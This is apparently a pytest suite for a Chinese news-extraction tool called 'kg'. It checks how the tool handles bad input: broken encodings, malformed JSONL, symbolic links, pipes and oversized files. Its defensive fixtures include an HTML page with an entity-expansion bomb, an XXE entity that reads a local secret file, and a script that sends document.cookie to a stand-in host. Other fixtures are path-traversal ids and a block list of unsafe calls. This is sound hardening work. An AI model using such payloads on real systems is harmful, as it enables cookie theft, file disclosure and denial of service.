"""The bad-input catalogue, end to end through the ``kg`` command.

Each bad input sits in a folder beside a good article and is read by ``kg extract``
(and some by ``kg build``).  What README ("Bad input") promises, asserted for each:
one warning line on stderr that names the file (and line), what is wrong and the fix;
the other inputs still processed and exit 0; ``--strict`` stops with exit 2 and writes
no output; nothing readable exits 1; usage errors exit 2; no traceback unless ``--debug``.
"""
from __future__ import annotations

import ast
import json
import os
import re
import subprocess
import sys
import warnings
from pathlib import Path

import opencc
import pytest

from extract.jsonio import record_from_json
from kg.cli import main
from kg.export.readers import read_gexf, read_graphml

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))
from benchmarks.fuzz import sample_copies  # noqa: E402   the same big page the benchmark reads

PAGE = (ROOT / "samples" / "qiantang-daily-2025-09-26-p1.txt").read_text(encoding="utf-8")
REPORT = ("本报讯 25日,区委书记李俊出席全区安全生产工作会议并讲话。他强调,要坚持人民至上、生命至上,压紧压实"
          "安全生产责任。区长陈明主持会议,区领导胡潜、吴刚参加。")
# A paragraph of the sample page that survives simplified -> Taiwan forms -> simplified unchanged (Big5 test).
_T2S, _S2TW = opencc.OpenCC("t2s"), opencc.OpenCC("s2tw")
ROUND_TRIP = next(p for p in PAGE.split("\n") if len(p) > 80 and _T2S.convert(_S2TW.convert(p)) == p)
WARNING = re.compile(r"^kg: warning: (?P<where>[^;]+?): (?P<what>[^;]+); (?P<fix>.+)$")


def kg(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def warnings_of(err: str) -> list[re.Match]:
    lines = [line for line in err.splitlines() if line.startswith("kg: warning:")]
    matches = [WARNING.match(line) for line in lines]
    assert all(matches), lines
    return matches


def articles(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def jsonl(*records) -> str:
    return "".join((r if isinstance(r, str) else json.dumps(r, ensure_ascii=False)) + "\n" for r in records)


# -- the catalogue --------------------------------------------------------------------------------
# name -> (file name, content, the warning's "where" relative to the folder, what it says, the fix)

def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _sparse_70_mib(path: Path) -> None:
    with path.open("wb") as fh:         # no disk used: the size is what is refused, before any reading
        fh.truncate(70 * 2**20)


OUTSIDE = "{outside}/secret.txt"        # a file beside the input folder, which a link in the folder leads to
SECRET = "区政府办公室通知,下周一召开全区防汛工作部署会。"


CATALOGUE = {
    "empty file": ("empty.txt", b"", "empty.txt", "empty file", "remove it or put the article text in it"),
    "blank file": ("blank.txt", "\u3000\n \r\n\ufeff".encode("utf-8"), "blank.txt", "empty file",
                   "remove it or put the article text in it"),
    "binary file": ("scan.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "scan.txt", "binary file, not text",
                    "give a .txt, .jsonl or .html file"),
    "latin-1 text": ("menu.txt", ("Café crème, déjà vu à la carte. " * 40).encode("latin-1"), "menu.txt",
                     "not UTF-8, GB18030, Big5 or UTF-16 text", "convert it to UTF-8 (iconv -f ENC -t UTF-8)"),
    "malformed JSONL line": ("feed.jsonl", jsonl({"id": "a1", "text": REPORT}, '{"id": "a2", "text": "本报讯',
                                                  {"id": "a3", "text": REPORT + "会议要求,全面排查。"}).encode(),
                             "feed.jsonl:2", "malformed JSON (Unterminated string starting at column 22)",
                             "write one JSON object per line"),
    "record without text": ("feed.jsonl", jsonl({"id": "a1", "text": REPORT}, {"id": "a2", "headline": "会议"}).encode(),
                            "feed.jsonl:2", 'no "text" field', 'give each record its article text in "text"'),
    "record with text not a string": ("feed.jsonl", jsonl({"id": "a1", "text": REPORT}, {"id": "a2", "text": ["会议"]}
                                                          ).encode(),
                                      "feed.jsonl:2", '"text" is a array, not a string',
                                      "give the article text as a JSON string"),
    "duplicate ids with different texts": ("feed.jsonl", jsonl({"id": "a1", "text": REPORT},
                                                               {"id": "a1", "text": REPORT + "会议要求,全面排查。"}).encode(),
                                           "feed.jsonl:2", "id 'a1' was already used by {dir}/feed.jsonl:1 for a "
                                           "different text", "give each record its own id"),
    "broken symbolic link": ("gone.txt", "nowhere.txt", "gone.txt", "broken symbolic link to nowhere.txt",
                             "fix the link or remove it"),
    "symbolic link loop (file)": ("self.txt", "self.txt", "self.txt",
                                  "broken symbolic link (a loop: it leads back to itself)",
                                  "fix the link or remove it"),
    "named pipe": ("pipe.txt", _fifo, "pipe.txt", "not a regular file (a pipe, socket or device)",
                   "give a file or a folder"),
    "symbolic link out of the folder": ("secret.txt", OUTSIDE, "secret.txt",
                                        f"symbolic link to {OUTSIDE}, outside the folders given: not followed",
                                        "give --follow-links to read it"),
    "number of 5000 digits in a JSONL record": (
        "feed.jsonl", jsonl({"id": "a1", "text": REPORT}, '{"id": "a2", "text": "会议", "views": ' + "9" * 5000 + "}",
                            {"id": "a3", "text": REPORT + "会议要求,全面排查。"}).encode(),
        "feed.jsonl:2", "a number with more than 4300 digits", "write it as a JSON string, or remove it"),
    "lone surrogate in a JSONL text": (         # read all the same, as U+FFFD
        "feed.jsonl", jsonl({"id": "a1", "text": REPORT}, '{"id": "s2", "text": "' + REPORT + '\\ud800。"}').encode(),
        "feed.jsonl:2", '"text" holds a lone surrogate (\\ud800), read as U+FFFD',
        "write the character itself, or both halves of its surrogate pair"),
    "text file over the size limit": ("huge.txt", _sparse_70_mib, "huge.txt",
                                      "70.0 MiB, over the limit of 64.0 MiB for one text",
                                      "split it into several files (e.g. one per page)"),
}
LINKS = {"broken symbolic link", "symbolic link loop (file)", "symbolic link out of the folder"}


def unclosed_fonts(n: int) -> str:
    """An old page: every paragraph opens a <font> and closes nothing, so each nests in the one before."""
    body = "".join(f"<p><font color=\"#333333\">第{i}段:区领导到第{i}个社区走访慰问困难群众。\n" for i in range(n))
    return f"<html><head><meta charset=\"utf-8\"><title>走访慰问</title></head><body>{body}</body></html>"


# Hostile inputs that are read whole, without a warning: name -> (file name, content)
READ_WHOLE = {
    "HTML nested 3000 elements deep": ("old.html", unclosed_fonts(1500)),
}
KEPT = {"lone surrogate in a JSONL text"}      # the record that warns is read too


def make_case(folder: Path, case: str, *, outside: Path | None = None) -> None:
    """The case's bad input beside a good file in ``folder``; a link out of the folder leads to
    ``outside`` (default: a folder beside it)."""
    name, content, *_ = CATALOGUE[case]
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "good.txt").write_text(REPORT, encoding="utf-8")
    if case in LINKS:
        target = content.format(outside=outside or folder.parent / "outside")
        if content == OUTSIDE:
            Path(target).parent.mkdir(parents=True, exist_ok=True)
            Path(target).write_text(SECRET, encoding="utf-8")
        os.symlink(target, folder / name)
    elif callable(content):
        content(folder / name)
    else:
        (folder / name).write_bytes(content)


def expected_warning(folder: Path, case: str) -> tuple[str, str, str]:
    _, _, where, what, fix = CATALOGUE[case]
    return f"{folder}/{where}", what.format(dir=folder, outside=folder.parent / "outside"), fix


def good_ids(case: str, folder: str = "") -> set[str]:
    """The ids of the good inputs of a case: good.txt, and the lines of a JSONL file but the bad one
    (line 2), unless the case reads it all the same."""
    name, content, *_ = CATALOGUE[case]
    ids = {f"{folder}good.txt"}
    if name.endswith(".jsonl"):
        lines = content.decode().splitlines()
        ids |= {json.loads(line)["id"] for n, line in enumerate(lines, start=1) if n != 2 or case in KEPT}
    return ids


@pytest.mark.parametrize("case", sorted(CATALOGUE))
def test_a_bad_input_warns_once_and_the_rest_is_processed(tmp_path, capsys, case):
    folder = tmp_path / "in"
    make_case(folder, case)
    code, out, err = kg(capsys, "extract", folder, "-o", tmp_path / "out.jsonl")
    assert code == 0, err
    [warning] = warnings_of(err)
    assert (warning["where"], warning["what"], warning["fix"]) == expected_warning(folder, case)
    written = articles(tmp_path / "out.jsonl")
    assert sorted(a["id"] for a in written) == sorted(good_ids(case))
    assert any(a["id"] == "good.txt" and [p["name"] for p in a["persons"]] == ["李俊", "陈明", "胡潜", "吴刚"]
               for a in written)
    assert "Traceback" not in err


@pytest.mark.parametrize("case", sorted(CATALOGUE))
def test_strict_stops_at_the_bad_input_and_writes_nothing(tmp_path, capsys, case):
    folder = tmp_path / "in"
    make_case(folder, case)
    code, out, err = kg(capsys, "extract", folder, "-o", tmp_path / "out.jsonl", "--strict")
    assert code == 2
    where, what, fix = expected_warning(folder, case)
    assert err == f"kg: error: {where}: {what}; {fix} (--strict: stopping)\n"
    assert not (tmp_path / "out.jsonl").exists()
    assert {p.name for p in tmp_path.iterdir()} <= {"in", "outside"}     # no temporary file left either


@pytest.mark.parametrize("case", sorted(c for c in CATALOGUE if not CATALOGUE[c][0].endswith(".jsonl")))
def test_nothing_readable_exits_1(tmp_path, capsys, case):
    folder = tmp_path / "in"
    make_case(folder, case)
    (folder / "good.txt").unlink()
    code, out, err = kg(capsys, "extract", folder)
    assert code == 1 and out == ""
    assert len(warnings_of(err)) == 1
    assert err.splitlines()[-1] == "kg: error: no input could be read; check the paths and the warnings above"


def test_the_whole_catalogue_in_one_folder_through_kg_build(tmp_path, capsys):
    folder = tmp_path / "in"
    for i, case in enumerate(sorted(CATALOGUE)):
        make_case(folder / f"{i:02d}", case, outside=tmp_path / "outside")
    (folder / "whole").mkdir()
    for name, content in READ_WHOLE.values():
        (folder / "whole" / name).write_text(content, encoding="utf-8")
    code, out, err = kg(capsys, "build", folder, "-o", tmp_path / "out", "--db", tmp_path / "store.sqlite",
                        "--null-samples", "10")
    assert code == 0, err
    assert len(warnings_of(err)) == len(CATALOGUE)
    # a JSONL id is the record's own (a1 in several files with the same text is one article)
    records = articles(tmp_path / "out" / "articles.jsonl")
    expected = set().union(*(good_ids(case, f"{i:02d}/") for i, case in enumerate(sorted(CATALOGUE))))
    expected |= {f"whole/{name}" for name, _ in READ_WHOLE.values()}
    assert sorted(r["id"] for r in records) == sorted(expected)
    G = read_graphml(tmp_path / "out" / "graph.graphml")
    assert sum(1 for _, d in G.nodes(data=True) if d["type"] == "article") == len(records)
    assert "Traceback" not in err


# -- encodings: all read, no warning --------------------------------------------------------------

def test_mixed_encodings_in_one_folder_read_alike(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    encoded = {
        "utf8.txt": ROUND_TRIP.encode("utf-8"),
        "utf8-bom.txt": ROUND_TRIP.encode("utf-8-sig"),
        "utf16-bom.txt": ROUND_TRIP.encode("utf-16"),
        "utf16le-nobom.txt": ROUND_TRIP.encode("utf-16-le"),
        "utf16be-nobom.txt": ROUND_TRIP.encode("utf-16-be"),
        "gbk.txt": ROUND_TRIP.encode("gbk"),
        "gb18030.txt": ROUND_TRIP.encode("gb18030"),
        "big5.txt": _S2TW.convert(ROUND_TRIP).encode("big5"),
    }
    for name, data in encoded.items():
        (folder / name).write_bytes(data)
    code, out, err = kg(capsys, "extract", folder, "-q")
    assert (code, err) == (0, "")
    records = [json.loads(line) for line in out.splitlines()]
    assert sorted(r["id"] for r in records) == sorted(encoded)
    assert {r["text"] for r in records} == {ROUND_TRIP}
    persons = {r["id"]: [p["name"] for p in r["persons"]] for r in records}
    assert persons["big5.txt"] and all(v == persons["utf8.txt"] for v in persons.values())


# -- HTML with script, style and entity declarations ----------------------------------------------

HOSTILE_HTML = """<?xml version="1.0"?>
<!DOCTYPE html [
 <!ENTITY a "会议会议会议会议会议会议会议会议">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY secret SYSTEM "file://{secret}">
]>
<html><head><meta charset="utf-8"><title>区领导出席安全生产会议</title>
<style>p {{ color: red }} .x::after {{ content: "样式表里的字" }}</style>
<script>document.write("脚本里的字"); fetch("https://example.invalid/?c=" + document.cookie)</script>
</head><body onload="alert('onload')"><p>&f;</p><p>&secret;</p>
<p>{report}</p><script type="text/javascript">var 变量 = "脚本里的字二";</script>
<noscript>请启用脚本</noscript><iframe src="javascript:alert(1)"></iframe></body></html>
"""


def test_html_with_script_style_and_entities(tmp_path, capsys):
    secret = tmp_path / "secret.txt"
    secret.write_text("机密内容", encoding="utf-8")
    page = tmp_path / "page.html"
    page.write_text(HOSTILE_HTML.format(secret=secret, report=REPORT), encoding="utf-8")
    code, out, err = kg(capsys, "extract", page, "-q")     # the entities are never expanded
    assert (code, err) == (0, ""), err
    [record] = [json.loads(line) for line in out.splitlines()]
    text = record["text"]
    assert REPORT in text
    for leaked in ("脚本里的字", "样式表里的字", "机密内容", "color", "alert", "document", "会议会议会议"):
        assert leaked not in text
    assert [p["name"] for p in record["persons"]] == ["李俊", "陈明", "胡潜", "吴刚"]


# -- unreadable files and folders (simulated: CI runs as root) ------------------------------------

def test_unreadable_file_and_folder(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "in"
    (folder / "locked").mkdir(parents=True)
    (folder / "locked" / "inside.txt").write_text(REPORT, encoding="utf-8")
    (folder / "a-good.txt").write_text(REPORT, encoding="utf-8")
    (folder / "b-secret.txt").write_text(REPORT + "会议要求,全面排查。", encoding="utf-8")
    real_read_bytes, real_listdir = Path.read_bytes, os.listdir

    def read_bytes(self):
        if self.name == "b-secret.txt":
            raise PermissionError(13, "Permission denied", str(self))
        return real_read_bytes(self)

    def listdir(path="."):
        if os.path.basename(os.fspath(path)) == "locked":
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_listdir(path)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    monkeypatch.setattr(os, "listdir", listdir)
    code, out, err = kg(capsys, "extract", folder, "-o", tmp_path / "out.jsonl")
    assert code == 0
    found = sorted((w["where"], w["what"], w["fix"]) for w in warnings_of(err))
    assert found == [
        (f"{folder}/b-secret.txt", "permission denied", "make it readable (chmod +r) or leave it out"),
        (f"{folder}/locked", "permission denied: cannot list the folder",
         "make it readable (chmod +rx) or leave it out"),
    ]
    assert [a["id"] for a in articles(tmp_path / "out.jsonl")] == ["a-good.txt"]


# -- symbolic link loops between folders ----------------------------------------------------------

def test_folder_link_loops_end_and_every_file_is_read_once(tmp_path, capsys):
    folder = tmp_path / "in"
    (folder / "a" / "b").mkdir(parents=True)
    (folder / "a" / "one.txt").write_text(REPORT, encoding="utf-8")
    (folder / "a" / "b" / "two.txt").write_text(REPORT + "会议要求,全面排查。", encoding="utf-8")
    os.symlink("..", folder / "a" / "b" / "up")             # a/b/up -> a
    os.symlink(folder, folder / "a" / "root")              # a/root -> in (absolute)
    os.symlink("../a", folder / "a" / "b" / "again")        # a second way into a
    code, out, err = kg(capsys, "extract", folder, folder / "a", "-q")
    assert (code, err) == (0, "")
    assert sorted(json.loads(line)["id"] for line in out.splitlines()) == ["a/b/two.txt", "a/one.txt"]


# -- hostile ids and file names -------------------------------------------------------------------

def test_ids_and_file_names_cannot_escape_or_break_the_outputs(tmp_path, capsys, monkeypatch):
    work = tmp_path / "work"
    (work / "in").mkdir(parents=True)
    monkeypatch.chdir(work)
    hostile_ids = ["../../x", "/etc/passwd", "..\\..\\win", "a\u0001b\u0000c", "\ud800lone", "line\nbreak",
                   "<script>alert(1)</script>", "x" * 3000, "CON", ".", ""]
    lines = [json.dumps({"id": i, "text": f"{REPORT}第{n}次。", "url": "javascript:alert(1)\u0007",
                         "headline": "<b>会议</b>\ufffe"}) for n, i in enumerate(hostile_ids)]
    (work / "in" / "feed.jsonl").write_text("\n".join(lines) + "\n", encoding="ascii")   # JSON escapes
    (work / "in" / os.fsdecode("会议".encode("gbk") + b".txt")).write_text(REPORT + "一。", encoding="utf-8")
    (work / "in" / "tab\tand\x01.txt").write_text(REPORT + "二。", encoding="utf-8")
    before = {p for p in tmp_path.rglob("*")}
    code, out, err = kg(capsys, "build", "in", "-o", "out", "--db", "store.sqlite", "--null-samples", "10")
    assert code == 0, err
    [warning] = warnings_of(err)                     # only the empty id
    assert warning["where"] == "in/feed.jsonl:11" and warning["what"] == '"id" is ""'
    new = {p for p in tmp_path.rglob("*")} - before
    assert all(p == work / "out" or work / "out" in p.parents or p.name.startswith("store.sqlite") for p in new)
    for p in new:
        assert p.resolve() == p                      # no link made by the build
        assert "\\" not in p.name and p.name.isprintable()
    G = read_graphml(work / "out" / "graph.graphml")
    ids = {n for n, d in G.nodes(data=True) if d["type"] == "article"}
    assert "article:\\udcbb\\udce1\\udcd2\\udce9.txt" in ids        # undecodable bytes of a file name, escaped
    assert {"article:../../x", "article:a\\x01b\\x00c", "article:\\ud800lone", "article:line\\x0abreak",
            "article:tab\\x09and\\x01.txt"} <= ids
    assert len(ids) == len(hostile_ids) - 1 + 2
    assert read_gexf(work / "out" / "graph.gexf").number_of_nodes() == G.number_of_nodes()
    for record in articles(work / "out" / "articles.jsonl"):
        record_from_json(record)
        assert record["id"].isprintable() and "\ufffe" not in (record["headline"] or "")


# -- big and strange pages ------------------------------------------------------------------------

def test_a_6_mb_page_is_read_in_one_piece(tmp_path, capsys):
    """The 50 MB page is measured by benchmarks/fuzz.py (minutes here, linear); the suite reads
    6 MB, about 2 million characters, and checks that every report of every copy comes out once."""
    page = sample_copies(6)
    copies = page.count("总第")
    (tmp_path / "big.txt").write_text(page, encoding="utf-8")
    code, out, err = kg(capsys, "extract", tmp_path / "big.txt", "-o", tmp_path / "out.jsonl", "-q")
    assert (code, err) == (0, "")
    records = articles(tmp_path / "out.jsonl")
    assert len({r["id"] for r in records}) == len(records) >= copies
    assert sum(r["text"].count("本报讯") for r in records) == copies * PAGE.count("本报讯")
    assert sum(len(r["persons"]) for r in records) >= copies * 10


@pytest.mark.parametrize("kind", ["latin", "mixed scripts", "full-width"])
def test_a_5_mb_line_without_sentences_completes(tmp_path, capsys, kind):
    import random

    rng = random.Random(kind)
    alphabet = {
        "latin": "abcdefghijklmnopqrstuvwxyz ABCDEFGHIJ0123456789.,;:-()",
        "mixed scripts": "abcабвгαβγあいうアイウ한국어ﺍﺏﺕאבג中文字书记市委出席会议,。é\u0301\u200d🙂",
        "full-width": "０１２３４５６７８９ＡＢＣＤＥｘｙｚ，。！？：；（）「」〔〕【】　～－＋",
    }[kind]
    chars = int(5e6 / (1 if kind == "latin" else 3))                    # about 5 MB of UTF-8
    line = "".join(rng.choices(alphabet, k=chars))
    (tmp_path / "line.txt").write_text(line, encoding="utf-8")
    code, out, err = kg(capsys, "extract", tmp_path / "line.txt", "-o", tmp_path / "out.jsonl", "-q")
    assert code == 0, err
    assert len(articles(tmp_path / "out.jsonl")) >= 1


# -- usage errors, tracebacks and --debug (a real process) ----------------------------------------

def _kg_process(*argv, cwd: Path) -> subprocess.CompletedProcess:
    exe = ROOT / ".venv" / "bin" / "kg"
    cmd = [str(exe)] if exe.exists() else [sys.executable, "-m", "kg.cli"]
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.run([*cmd, *map(str, argv)], cwd=cwd, env=env, capture_output=True, text=True, timeout=300)


def test_no_traceback_without_debug_and_one_with_it(tmp_path):
    folder = tmp_path / "in"
    for i, case in enumerate(sorted(CATALOGUE)):
        make_case(folder / f"{i:02d}", case, outside=tmp_path / "outside")
    done = _kg_process("extract", "in", "-o", "out.jsonl", cwd=tmp_path)
    assert done.returncode == 0
    assert "Traceback" not in done.stderr
    assert all(line.startswith("kg: ") for line in done.stderr.splitlines()), done.stderr
    assert len(warnings_of(done.stderr)) == len(CATALOGUE)

    strict = _kg_process("extract", "in", "-o", "out2.jsonl", "--strict", cwd=tmp_path)
    assert strict.returncode == 2 and "Traceback" not in strict.stderr
    assert strict.stderr.count("\n") == 1 and strict.stderr.startswith("kg: error: in/00/")

    debug = _kg_process("extract", "in", "-o", "out2.jsonl", "--strict", "--debug", cwd=tmp_path)
    assert debug.returncode != 0
    assert "Traceback" in debug.stderr and "UsageError" in debug.stderr
    assert not (tmp_path / "out2.jsonl").exists()


@pytest.mark.parametrize("argv", [
    ["extract"],                                        # no input
    ["build", "in", "--null-samples", "many"],          # not a number
    ["extract", "in", "--backend", "nonesuch"],         # not a backend
    ["frobnicate"],                                     # not a command
])
def test_usage_errors_exit_2_with_a_short_message(tmp_path, capsys, argv):
    with pytest.raises(SystemExit) as e:
        main(argv)
    assert e.value.code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.splitlines()[-1].startswith("kg")


def test_a_missing_path_is_a_bad_input_not_a_crash(tmp_path, capsys):
    (tmp_path / "good.txt").write_text(REPORT, encoding="utf-8")
    code, out, err = kg(capsys, "extract", tmp_path / "nope.txt", tmp_path / "good.txt", "-q")
    assert code == 0 and len(out.splitlines()) == 1
    [w] = warnings_of(err)
    assert (w["where"], w["what"], w["fix"]) == (f"{tmp_path}/nope.txt", "not found", "check the path")


# -- no code from data ----------------------------------------------------------------------------

_UNSAFE_CALLS = {"eval", "exec", "pickle.load", "pickle.loads", "pickle.Unpickler", "marshal.load", "marshal.loads",
                 "shelve.open", "yaml.load", "yaml.unsafe_load", "os.system", "os.popen", "torch.load", "dill.load",
                 "dill.loads", "joblib.load"}


def _called(node) -> str:
    f = node.func
    parts = []
    while isinstance(f, ast.Attribute):
        parts.append(f.attr)
        f = f.value
    if isinstance(f, ast.Name):
        parts.append(f.id)
    return ".".join(reversed(parts))


def test_the_library_never_runs_or_unpickles_data():
    """No eval/exec, no unpickling, no shell in extract/ and kg/ (multiprocessing's own pickles
    between our processes are not data from outside)."""
    found = []
    for path in sorted([*(ROOT / "extract").rglob("*.py"), *(ROOT / "kg").rglob("*.py")]):
        with warnings.catch_warnings():         # an invalid escape in a module is not this test's business
            warnings.simplefilter("ignore", (DeprecationWarning, SyntaxWarning))
            tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = _called(node)
            shell = any(k.arg == "shell" and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                        for k in node.keywords)
            if name in _UNSAFE_CALLS or shell:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {name}")
    assert found == []
